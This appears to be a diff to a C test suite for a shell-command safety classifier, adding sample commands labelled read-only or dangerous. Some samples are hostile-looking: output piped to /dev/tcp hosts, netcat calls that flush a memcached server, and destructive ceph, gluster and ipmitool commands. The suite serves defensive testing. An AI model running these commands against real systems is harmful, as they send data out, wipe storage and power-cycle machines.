@@ -702,6 +702,11 @@ static const struct text_case of_wrappers[] = {
 	{ "cat | tee x > /dev/tcp/host/80", "D" },
 	{ "ls | cat > /dev/tcp/host/80", "D" },
 	{ "echo > /dev/tcp/../../etc/passwd", "D" },
+	{ "echo flush_all | nc localhost 11211 3</dev/null", "D" },
+	{ "echo flush_all | echo $(nc localhost 11211)", "D" },
+	{ "cat x >(nc localhost 80)", "D" },
+	{ "kubectl exec [pod-name] -- ls", "R" },
+	{ "kubectl get pod [pod-name] -n [namespace]", "R" },
 };
 
 static void wrappers_are_classified(void)
@@ -1187,6 +1192,30 @@ static const struct text_case of_system[] = {
 	{ "hostname $X", "D" },
 	{ "sysctl -w net.core.somaxconn=1024", "r" },
 	{ "iostat > x", "D" },
+	{ "ceph -s", "R" },
+	{ "ceph health detail", "R" },
+	{ "ceph osd tree", "R" },
+	{ "ceph osd set noout", "r" },
+	{ "ceph osd purge 1", "D" },
+	{ "ceph osd pool delete x", "D" },
+	{ "gluster volume heal x info", "R" },
+	{ "gluster volume delete x", "D" },
+	{ "ipmitool sel list", "R" },
+	{ "ipmitool power cycle", "D" },
+	{ "ipmitool sel clear", "D" },
+	{ "pcs status", "R" },
+	{ "crm_mon -1", "R" },
+	{ "minikube status", "R" },
+	{ "minikube delete", "D" },
+	{ "eksctl get cluster", "R" },
+	{ "kind delete cluster", "D" },
+	{ "rndc status", "R" },
+	{ "rndc flush", "r" },
+	{ "fail2ban-client status sshd", "R" },
+	{ "snmpwalk -v2c -c public host", "R" },
+	{ "tcpconnect-bpfcc", "R" },
+	{ "dstat -cdn 1 5", "R" },
+	{ "dstat --output x", "D" },
 };
 
 static void system_are_classified(void)
